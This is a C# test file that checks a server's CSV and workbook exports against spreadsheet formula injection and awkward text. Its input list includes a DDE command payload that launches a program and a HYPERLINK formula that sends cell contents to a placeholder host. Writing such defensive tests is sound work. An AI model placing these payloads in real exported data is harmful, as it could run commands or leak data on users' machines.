using Npgsql;
using Socle.Tests.Postgres;

namespace Socle.Tests.Server.Exports;

/// <summary>Nothing that a record holds is evaluated, moved to another cell or changed on its way into a spreadsheet.</summary>
public sealed class HostileTextTests(TestServer postgres)
{
    private static readonly string[] Texts =
    [
        "=1+1", "=HYPERLINK(\"http://x.example?\"&A1,\"clic\")", "=cmd|' /C calc'!A0", "+1+1", "-1+1", "@SUM(1+1)", "\t=1+1", "\r=1+1", "\n=1+1", " =1+1", "\u00A0=1+1", "＝1+1",
        "\";=1+1;\"", "\"=1+1", "\"\"=1+1\"\"", "a\";\"=1+1", "a;=1+1", "a\r\n=1+1", "=\"a\"&\"b\"", "=\"\"", "=\"", "=", "'=1+1", "{=1+1}", "[=1+1]", "=\"x\";\r\n=1+1",
        "00123", "73282932000074", "06 39 98 00 00", "1E5", "3-4", "31/12/2026", "2026-12-31", "VRAI", "TRUE", "#N/A", "12:30", "10 %", "1 234,56 €",
        "<b>&amp;</b>", "]]>", "_x0041_", "_x000D_", "__x0041__", "_X0041_", "_x00", "\u0001\u0002\u001F\u007F", "\uFFFE\uFFFF", "\u2028\u2029\u0085", "\uFEFFa", "😀", "é\u0301", " a ", "", " ", "a\tb", "a\nb", "a\r\nb", "\r\n",
    ];

    [Fact]
    public async Task Hostile_text_stays_the_text_it_is()
    {
        await using var server = await ExportingServer.Start(postgres, "CREATE TABLE texts (id int PRIMARY KEY, value text, doc jsonb, list text[])");
        await Fill(server);

        var csv = CsvText.Read(await server.GetCsv("texts?select=value,doc,list&order=id", "fr"), ';').Skip(1).ToList();
        Assert.Equal(Texts, csv.Select(row => CsvText.Shown(row[0])));
        Assert.All(csv, row => Assert.All(row, CheckHarmless));
        Assert.Equal(Texts, CsvText.Read(await server.GetCsv("texts?select=value&order=id"), ',').Skip(1).Select(row => row[0]));

        var file = await server.GetWorkbook("texts?select=value,doc,list&order=id");
        Workbook.Validate(file);
        var rows = Workbook.Read(file)[0].Rows.Skip(1).ToList();
        Assert.Equal(Texts, rows.Select(row => row["A"].Text));
        Assert.All(rows, row => Assert.All(row.Values, cell => Assert.Equal("text", cell.Type)));
    }

    [Fact]
    public async Task A_name_that_a_caller_gives_is_harmless_too()
    {
        await using var server = await ExportingServer.Start(postgres, "CREATE TABLE texts (id int)");
        var header = CsvText.Read(await server.GetCsv("texts?select=\"=1+1;\":id", "fr"), ';')[0];
        Assert.Equal("=1+1;", CsvText.Shown(Assert.Single(header)));
        var file = await server.GetWorkbook("texts?select=\"<a>\":id");
        Workbook.Validate(file);
        Assert.Equal("<a>", Workbook.Read(file)[0].Rows[0]["A"].Text);
    }

    [Fact]
    public async Task Text_that_is_too_long_for_a_cell_is_cut_where_it_can_be_seen()
    {
        await using var server = await ExportingServer.Start(postgres, "CREATE TABLE texts (id int, value text); INSERT INTO texts VALUES (1, repeat('é', 32767)), (2, repeat('é', 32768)), (3, repeat('😀', 20000)), (4, repeat('<', 32767))");
        var file = await server.GetWorkbook("texts?select=value&order=id");
        Workbook.Validate(file);
        var cells = Workbook.Read(file)[0].Rows.Skip(1).Select(row => row["A"].Text).ToList();
        Assert.Equal([new string('é', 32767), new string('é', 32766) + "…", string.Concat(Enumerable.Repeat("😀", 16383)) + "…", new string('<', 32767)], cells);
        Assert.Equal(20000 * 2, CsvText.Read(await server.GetCsv("texts?select=value&id=eq.3", "fr"), ';')[1][0]!.Length);
    }

    private static async Task Fill(ExportingServer server)
    {
        // A jsonb cannot hold the characters that PostgreSQL's text can, such as none here: \u0000 is in neither.
        await using var command = server.Database.CreateCommand("INSERT INTO texts SELECT n, v, to_jsonb(v), ARRAY[v] FROM unnest($1) WITH ORDINALITY AS t (v, n)");
        command.Parameters.Add(new NpgsqlParameter<string[]> { TypedValue = Texts });
        await command.ExecuteNonQueryAsync(TestContext.Current.CancellationToken);
    }

    private static void CheckHarmless(string? cell)
    {
        if (!string.IsNullOrEmpty(cell) && "=+-@\t\r\n".Contains(cell[0]))
            CsvText.Shown(cell[0] == '=' ? cell : $"={cell}");
    }
}
